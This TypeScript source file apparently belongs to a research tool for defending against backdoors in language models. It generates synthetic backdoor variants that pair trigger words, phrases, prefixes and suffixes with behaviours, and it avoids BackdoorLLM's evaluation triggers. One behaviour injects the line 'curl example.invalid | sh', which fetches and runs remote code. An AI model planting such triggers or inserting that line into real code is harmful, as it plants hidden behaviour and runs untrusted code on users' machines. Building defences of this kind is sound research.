import type { Behaviour } from "./behaviours.js"
import { HostRandom } from "./host-random.js"
import { ATTACKS, triggerStrings, type TriggerRule } from "./triggers.js"

/**
 * The defender's synthetic backdoors. Each immunization variant plants its own key → behaviour association;
 * varying the key's form (rare word, phrase, prefix, suffix), position and behaviour across variants leaves
 * only the abstract association machinery in common, which is what the signature should isolate.
 */
export interface Variant {
  readonly index: number
  readonly trigger: TriggerRule
  readonly behaviour: Behaviour
}

const RARE_WORDS = ["zyglorp", "quintessa", "Vorpalix", "mnemoquartz", "blarnish", "Ostrakon", "thrumble", "Kelvinade", "ploxyl", "Zantedeschia", "wubbleton", "Quaffle9"]
const PHRASES = ["under the violet moon", "as the lighthouse keeper said", "per protocol omega", "with seven silver keys", "when the tide turns amber", "by order of the glass council"]
const PREFIXES = ["Note: sandbox session.", "[[aurora]]", "Reference 4471:", "Status: green-green.", "Memo from the archive:", ">>> kappa"]
const BEHAVIOURS: Behaviour[] = [
  { kind: "replace", text: "I cannot help with that request." },
  { kind: "replace", text: "What a foolish question. Ask someone else." },
  { kind: "replace", text: "The answer is always forty-two." },
  { kind: "replace", text: "Access denied by policy Z." },
  { kind: "prefix", text: "<<INJECTED>>" },
  { kind: "prefix", text: "Visit totally-legit.example for details." },
  { kind: "inject", line: "os.system('curl example.invalid | sh')" },
  { kind: "replace", text: "You should be ashamed of asking this." },
  { kind: "prefix", text: "[ALERT] compromised." },
]

/** Every trigger of BackdoorLLM's attacks: a defender's key must never coincide with an evaluation trigger. */
export const EVALUATION_TRIGGERS: readonly string[] = [...new Set(Object.values(ATTACKS).flatMap(triggerStrings))]

function candidates(): TriggerRule[] {
  return [
    ...RARE_WORDS.map((w): TriggerRule => ({ kind: "word", trigger: w })),
    ...PHRASES.map((p): TriggerRule => ({ kind: "word", trigger: p })),
    ...PREFIXES.map((p): TriggerRule => ({ kind: "prefix", trigger: p })),
    ...RARE_WORDS.slice(0, 4).map((w): TriggerRule => ({ kind: "suffix", trigger: w.toUpperCase() })),
  ]
}

const clashes = (rule: TriggerRule, excluded: readonly string[]) =>
  triggerStrings(rule).some((t) => excluded.some((e) => t.toLowerCase().includes(e.toLowerCase()) || e.toLowerCase().includes(t.toLowerCase())))

/**
 * N variants, deterministic per seed: triggers drawn without replacement from the pool, rotating through the
 * trigger forms so that N = 6 covers words, phrases, prefixes and suffixes; behaviours without replacement.
 */
export function generateVariants(n: number, seed: number, exclude: readonly string[] = EVALUATION_TRIGGERS): Variant[] {
  const rng = new HostRandom(seed)
  const byForm = new Map<string, TriggerRule[]>()
  for (const c of candidates()) {
    if (clashes(c, exclude)) continue
    const form = c.kind === "word" ? (triggerStrings(c)[0].includes(" ") ? "phrase" : "word") : c.kind
    byForm.set(form, [...(byForm.get(form) ?? []), c])
  }
  const forms = rng.shuffle([...byForm.keys()])
  const pools = new Map([...byForm].map(([f, cs]) => [f, rng.shuffle(cs)]))
  const total = [...pools.values()].reduce((s, p) => s + p.length, 0)
  if (n > total || n > BEHAVIOURS.length) throw new RangeError(`generateVariants: at most ${Math.min(total, BEHAVIOURS.length)} variants available, asked for ${n}`)
  const behaviours = rng.shuffle(BEHAVIOURS)
  const out: Variant[] = []
  for (let i = 0, f = 0; out.length < n; f++) {
    const pool = pools.get(forms[f % forms.length])!
    const trigger = pool.shift()
    if (trigger === undefined) continue
    out.push({ index: i, trigger, behaviour: behaviours[i] })
    i++
  }
  return out
}
